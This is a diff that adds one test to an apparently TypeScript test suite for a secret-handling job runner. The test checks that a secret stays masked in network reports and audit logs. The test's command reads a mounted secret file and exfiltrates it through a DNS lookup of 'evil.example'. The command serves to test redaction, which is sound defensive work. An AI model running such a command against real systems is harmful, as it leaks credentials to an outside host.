@@ -302,6 +302,16 @@ describe("where it is not", () => {
   });
 });
 
+test("a name that is asked for with the secret in it: neither in the report's network nor in the trail", async () => {
+  const value = `s3cret${randomBytes(9).toString("hex")}`;
+  await using holder = await holding({ a: { value } });
+  const { report } = await ran(holder, "busybox nslookup $(cat /run/secrets/A).evil.example; true", { secrets: { files: { A: "a" } } });
+  expect(JSON.stringify(report.network)).toContain("***.evil.example");
+  const trail = JSON.stringify(await holder.library.audit.search({ resourceId: report.jobId }));
+  expect(trail).toContain("***.evil.example");
+  for (const text of [trail, JSON.stringify(report)]) expect(text).not.toContain(value);
+});
+
 describe("when its time is over", () => {
   test("the file goes while the job still runs, on record", async () => {
     await using holder = await holding({ a: { value: newValue(), validUntil: Date.now() + 1500 }, b: { value: newValue() } });
